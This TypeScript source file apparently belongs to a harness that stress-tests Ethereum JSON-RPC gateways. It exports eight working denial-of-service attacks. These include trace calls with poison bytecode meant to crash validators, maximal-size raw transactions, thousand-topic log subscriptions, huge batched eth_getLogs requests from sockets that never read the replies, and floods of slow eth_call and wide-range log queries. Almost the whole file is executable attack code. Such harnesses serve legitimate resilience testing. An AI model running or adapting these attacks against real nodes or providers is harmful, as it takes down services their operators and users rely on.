import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { Transaction, Wallet } from "ethers";
import { Pool } from "undici";
import { WebSocket } from "ws";
import { type Attack, type AttackContext, drawn, inLoops, scaled } from "./attack.ts";
import { bigAddress, deadlyData, slowAddress, wideAddress } from "./hostile-chain.ts";

type Rpc = { method: string; params: readonly unknown[] };

/** Asks the gateways in turn over kept-alive connections. */
function createClient({ gateways, key, count }: AttackContext, { connections }: { connections: number }) {
  const each = Math.max(1, Math.ceil(connections / gateways.length));
  const pools = gateways.map(({ url }) => new Pool(url, { connections: each }));
  return {
    async ask(loop: number, body: Rpc | readonly Rpc[]): Promise<void> {
      const pool = pools[loop % pools.length];
      if (pool === undefined) return;
      const items = (Array.isArray(body) ? body : [body]).map((item, id) => ({
        jsonrpc: "2.0",
        id,
        ...item,
      }));
      const answer = await pool.request({
        method: "POST",
        path: "/",
        headers: { "content-type": "application/json", "x-api-key": key },
        body: JSON.stringify(Array.isArray(body) ? items : items[0]),
      });
      await answer.body.dump({ limit: 1024 * 1024 * 1024 });
      count(`status ${answer.statusCode}`);
    },
    stop: () => Promise.all(pools.map((pool) => pool.destroy())),
  };
}

function randomHex(bytes: number, { random }: AttackContext): string {
  return Array.from({ length: bytes }, () =>
    Math.floor(random() * 256)
      .toString(16)
      .padStart(2, "0"),
  ).join("");
}

/** Traces that end a validator: with much gas, with no gas limit, and with a flaw that no bound knows of. */
const poisonTraces: Attack = async (context) => {
  const client = createClient(context, { connections: 12 });
  await inLoops(4, context, async (loop) => {
    const from = `0x${randomHex(20, context)}`;
    const call = drawn(
      [
        { from, data: `0x5b600056${randomHex(4, context)}`, gas: "0x2faf080" },
        { from, data: `0x5b600056${randomHex(4, context)}` },
        { from, data: `0x${deadlyData}${randomHex(4, context)}`, gas: "0xf4240" },
      ],
      context.random,
    );
    await client.ask(
      loop,
      drawn<Rpc>(
        [
          { method: "trace_callMany", params: [[[call, ["trace"]]], "latest"] },
          { method: "trace_call", params: [call, ["trace"], "latest"] },
          { method: "debug_traceCall", params: [call, "latest", {}] },
        ],
        context.random,
      ),
    );
    await sleep(20);
  });
  await client.stop();
};

/** Transactions as long as a body allows. */
const longSends: Attack = async (context) => {
  const client = createClient(context, { connections: 20 });
  const wallet = new Wallet(`0x${"77".repeat(32)}`);
  const transaction = (nonce: number, bytes: number) =>
    wallet.signTransaction({
      type: 0,
      chainId: 8845,
      nonce,
      to: wallet.address,
      gasLimit: 21_000,
      gasPrice: 0n,
      data: `0x${"5b".repeat(bytes)}`,
    });
  const raws = await Promise.all([transaction(0, 500_000), transaction(1, 120_000), transaction(2, 100_000)]);
  if (Transaction.from(raws[2]).from !== wallet.address) throw new Error("the transaction is not signed");
  await inLoops(scaled(20, context), context, (loop) =>
    client.ask(loop, { method: "eth_sendRawTransaction", params: [drawn(raws, context.random)] }),
  );
  await client.stop();
};

const manyTopics = (context: AttackContext) =>
  Array.from({ length: 1000 }, () => `0x${randomHex(32, context)}`);

/** Log subscriptions and filters of a thousand topics each. */
const manyTopicsAtOnce: Attack = async (context) => {
  const client = createClient(context, { connections: 6 });
  // They are made once, so that making them costs the attacker's thread nothing later.
  const topics = Array.from({ length: 20 }, () => manyTopics(context));
  const sockets = await openSockets(scaled(12, context), context);
  await inLoops(sockets.length + 3, context, async (loop) => {
    const params = ["logs", { topics: [drawn(topics, context.random)] }];
    const socket = sockets[loop];
    if (socket === undefined) await client.ask(loop, { method: "eth_newFilter", params: params.slice(1) });
    else if (socket.readyState === WebSocket.OPEN) {
      socket.send(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_subscribe", params }));
      context.count("subscribed");
    }
    await sleep(20);
  });
  for (const socket of sockets) socket.terminate();
  await client.stop();
};

async function openSockets(count: number, { gateways, key }: AttackContext): Promise<WebSocket[]> {
  return await Promise.all(
    Array.from({ length: count }, async (_, index) => {
      const socket = new WebSocket(gateways[index % gateways.length]?.url.replace("http", "ws") ?? "", {
        headers: { "X-API-Key": key },
        perMessageDeflate: false,
      });
      socket.on("error", () => {});
      await new Promise((resolve) => socket.once("open", resolve).once("close", resolve));
      return socket;
    }),
  );
}

const bigLogs: Rpc = {
  method: "eth_getLogs",
  params: [{ address: bigAddress, fromBlock: "latest", toBlock: "latest" }],
};
/** Large logs under a random topic, so that no two calls are coalesced. */
const ownBigLogs = (context: AttackContext): Rpc => ({
  method: "eth_getLogs",
  params: [
    { address: bigAddress, topics: [`0x${randomHex(32, context)}`], fromBlock: "latest", toBlock: "latest" },
  ],
});

/** Batches of a hundred calls with answers of 1 MiB each, from clients that do not read. */
const bigBatchesUnread: Attack = async (context) => {
  await inLoops(scaled(6, context), context, async () => {
    const { host, port } = drawn(context.gateways, context.random);
    const isShared = context.random() < 0.5;
    const items = Array.from({ length: 100 }, (_, id) => ({
      jsonrpc: "2.0",
      id,
      ...(isShared ? bigLogs : ownBigLogs(context)),
    }));
    const body = JSON.stringify(items);
    await new Promise<void>((resolve) => {
      const socket = connect({ host, port });
      socket.pause();
      socket.on("error", () => {});
      socket.on("close", () => resolve());
      socket.write(
        `POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nX-API-Key: ${context.key}\r\n` +
          `Content-Length: ${body.length}\r\n\r\n${body}`,
      );
      const timer = setTimeout(() => socket.destroy(), context.leftMs());
      socket.once("close", () => clearTimeout(timer));
    });
    context.count("asked");
  });
};

/** The same over WebSockets that are not read. */
const bigFramesUnread: Attack = async (context) => {
  const sockets = await openSockets(scaled(10, context), context);
  for (const socket of sockets) socket.pause();
  await inLoops(sockets.length, context, async (loop) => {
    const socket = sockets[loop];
    if (socket?.readyState === WebSocket.OPEN) {
      for (let id = 0; id < 50; id += 1) {
        const asked = id % 2 === 0 ? bigLogs : ownBigLogs(context);
        socket.send(JSON.stringify({ jsonrpc: "2.0", id, ...asked }));
        context.count("asked");
      }
    }
    await sleep(500);
  });
  for (const socket of sockets) socket.terminate();
};

/** As many concurrent calls as a key may have, each of which costs a validator 110 ms. */
const heavyCalls: Attack = async (context) => {
  const client = createClient(context, { connections: 500 });
  await inLoops(scaled(500, context), context, (loop) =>
    client.ask(loop, {
      method: "eth_call",
      params: [{ to: slowAddress, data: `0x${randomHex(8, context)}` }, "latest"],
    }),
  );
  await client.stop();
};

/** Logs of a thousand blocks, which cost a validator 300 ms. */
const wideLogs: Attack = async (context) => {
  const client = createClient(context, { connections: 200 });
  await inLoops(scaled(200, context), context, (loop) =>
    client.ask(loop, {
      method: "eth_getLogs",
      params: [
        {
          address: wideAddress,
          topics: [`0x${randomHex(32, context)}`],
          fromBlock: "0x0",
          toBlock: "latest",
        },
      ],
    }),
  );
  await client.stop();
};

/** Receipts of unknown transactions, alone and in batches. */
const unknownReceipts: Attack = async (context) => {
  const client = createClient(context, { connections: 60 });
  const receipt = (): Rpc => ({
    method: "eth_getTransactionReceipt",
    params: [`0x${randomHex(32, context)}`],
  });
  await inLoops(scaled(60, context), context, (loop) =>
    client.ask(loop, loop % 2 === 0 ? receipt() : Array.from({ length: 20 }, receipt)),
  );
  await client.stop();
};

export const attacksWithKey: Readonly<Record<string, Attack>> = {
  poisonTraces,
  longSends,
  manyTopicsAtOnce,
  bigBatchesUnread,
  bigFramesUnread,
  heavyCalls,
  wideLogs,
  unknownReceipts,
};
